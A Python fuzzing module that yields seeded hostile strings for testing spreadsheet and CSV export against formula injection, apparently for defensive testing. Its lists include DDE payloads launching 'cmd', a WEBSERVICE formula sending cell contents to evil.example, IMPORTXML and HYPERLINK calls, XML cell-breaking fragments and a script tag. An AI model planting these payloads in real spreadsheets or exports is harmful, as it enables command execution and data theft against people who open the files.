"""Strings that try to become something else in a spreadsheet."""

from __future__ import annotations

import random
from collections.abc import Iterator

_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "−",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "　＝",
    "'=",
    "''=",
    "\ufeff=",
    "\u200b@",
)
_BODIES = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://evil.example","押す")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("http://evil.example/?"&A1)',
    'DDE("cmd";"/C calc";"!")',
    'IMPORTXML(CONCAT("http://evil.example"))',
    "職員",
)
_WHOLE = (
    "<r><t>=1+1</t></r>",
    "<r><f>1+1</f></r>",
    '</t></is></c><c r="Z9"><f>1+1</f></c>',
    "{=1+1}",
    "{=SUM(A1)}",
    "http://evil.example/",
    "mailto:evil@example.lg.jp",
    "internal:凡例!A1",
    "external:c:\\evil.xlsx",
    "000123",
    "1e5",
    "TRUE",
    "2026-04-01",
    "_x003D_1+1",
    'a,b"c\r\nd',
    "\x00=1",
    "=\x01",
    "\ud800=1",
    "\ufffe",
    "𠮷田",
    "<script>alert(1)</script>",
    "=1+1\n=2+2",
    "x\r=1+1",
)


def hostile_strings(count: int, seed: int = 8) -> Iterator[str]:
    """So many, the same for the same seed: every one of the lists, then mixtures."""
    chance = random.Random(seed)
    yield from _WHOLE[:count]
    for _ in range(count - len(_WHOLE)):
        text = chance.choice(_STARTS) * chance.choice((1, 1, 1, 2)) + chance.choice(_BODIES)
        if chance.random() < 0.3:
            text = chance.choice(_WHOLE) + text
        if chance.random() < 0.3:
            text += chr(chance.choice((0x1F, 0x85, 0x2028, 0x3042, 0xFF1D, 0x1F600, 0x20BB7, 0xFE0F)))
        yield text
